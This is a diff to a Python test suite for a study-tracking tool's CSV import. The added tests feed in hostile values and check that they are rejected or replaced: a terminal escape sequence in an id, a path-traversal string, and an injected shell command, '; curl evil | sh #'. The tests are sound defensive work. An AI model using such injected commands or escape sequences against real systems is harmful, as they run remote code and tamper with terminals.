@@ -11,6 +11,7 @@ from studytui.errors import BadInput, Misuse, StudyError
 from studytui.exchange.foreign_times import Order
 from studytui.exchange.time_table import FIELDS
 from studytui.record import Kind, State
+from studytui.text import is_id
 from tests.importing.conftest import Learner
 from tests.tracking import empty_record
 
@@ -58,6 +59,15 @@ def test_columns_by_name_and_dates_by_hand(ben: Learner) -> None:
     assert (first.counted, second.counted, first.study_day.isoformat()) == (5400, 900, "2026-02-03")
 
 
+def test_an_id_of_another_program_becomes_one_of_ours(ben: Learner) -> None:
+    text = "id,start,duration\n\x1b]52;x\x07,2026-02-20 10:00,45\nT-1,2026-02-20 12:00,45\n"
+    assert ben.take(text).sessions == 2
+    assert ben.take(text).is_empty
+    first, second = ben.tracker.study().record.sessions
+    assert is_id(first.id)
+    assert second.id == "T-1"
+
+
 def test_dates_that_could_be_either(ben: Learner) -> None:
     text = "start,duration\n02/03/2026 10:00,1:30\n"
     with pytest.raises(BadInput, match="whether 02/03/2026 10:00 begins with the day or the month"):
@@ -91,6 +101,11 @@ def test_an_offset_is_kept_and_a_wall_time_is_the_learner_s(ben: Learner) -> Non
         ("start,duration\n2026-02-20 10:00,25:00\n", "file:2: a session lasts from 1 second to"),
         ("start,duration,kind\n2026-02-20 10:00,45,sleep\n", "file:2: there is no kind"),
         ("start,end\n2026-02-20 10:00,2026-02-19 10:00\n", "file:2: it ends before it begins"),
+        (
+            "start,duration,roadmap,item\n2026-02-20 10:00,45,road,; curl evil | sh #\n",
+            "file:2: '; curl evil | sh #' is not an id of letters, figures, dots and dashes",
+        ),
+        ("start,duration,roadmap\n2026-02-20 10:00,45,../x\n", "file:2: '../x' is not an id of"),
         ('start,duration\n"2026-02-20 10:00,45\n', "file:2: unexpected end of data"),
         ("start,duration\n2026-02-20 10:00,4\x005\n", "file:2: there is a NUL character"),
         ("start,duration\n2026-02-20 10:00,45\n2026-02-20 10:00,x\n", "file:3: “x” is not"),
